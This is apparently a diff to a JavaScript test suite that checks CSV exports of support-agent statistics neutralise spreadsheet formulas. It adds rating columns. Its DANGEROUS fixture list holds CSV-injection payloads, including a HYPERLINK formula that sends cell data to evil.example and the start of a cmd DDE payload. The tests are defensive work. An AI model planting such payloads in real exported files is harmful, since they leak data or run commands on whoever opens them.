@@ -33,17 +33,17 @@ const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"點我")', '+1+cmd|\'
 
 describe('CSV exports neutralise formulas', () => {
   it('agent statistics: a name that is a formula is exported as text', () => {
-    const rows = DANGEROUS.map((agentName, i) => ({ day: '2030-01-01', agentId: `a${i}`, agentName, handled: 1, closed: 0, avgFirstResponseSeconds: -5, avgHandleSeconds: null }));
+    const rows = DANGEROUS.map((agentName, i) => ({ day: '2030-01-01', agentId: `a${i}`, agentName, handled: 1, closed: 0, avgFirstResponseSeconds: -5, avgHandleSeconds: null, ratings: 0, avgRating: null }));
     const parsed = cells(statsToCsv(rows));
-    expect(parsed[0]).toEqual(['day', 'agent_id', 'agent_name', 'handled', 'closed', 'avg_first_response_seconds', 'avg_handle_seconds']);
+    expect(parsed[0]).toEqual(['day', 'agent_id', 'agent_name', 'handled', 'closed', 'avg_first_response_seconds', 'avg_handle_seconds', 'ratings', 'avg_rating']);
     expect(parsed.slice(1).map((r) => r[2])).toEqual(DANGEROUS.map((d) => `'${d}`));
     // Numbers are data, not formulas: a negative number keeps its sign, an empty value stays empty.
-    for (const r of parsed.slice(1)) expect(r.slice(3)).toEqual(['1', '0', '-5', '']);
+    for (const r of parsed.slice(1)) expect(r.slice(3)).toEqual(['1', '0', '-5', '', '0', '']);
   });
 
   it('ordinary text, Chinese names, commas and quotes survive unchanged', () => {
     const names = ['慧明', '林 "小蓮", 客服', '法喜-充滿', 'a=b'];
-    const rows = names.map((agentName, i) => ({ day: '2030-01-01', agentId: `b${i}`, agentName, handled: 2, closed: 1, avgFirstResponseSeconds: 30, avgHandleSeconds: 300 }));
+    const rows = names.map((agentName, i) => ({ day: '2030-01-01', agentId: `b${i}`, agentName, handled: 2, closed: 1, avgFirstResponseSeconds: 30, avgHandleSeconds: 300, ratings: 1, avgRating: 4.5 }));
     const csv = statsToCsv(rows);
     expect(csv.startsWith('\uFEFF')).toBe(true);
     expect(cells(csv).slice(1).map((r) => r[2])).toEqual(names);
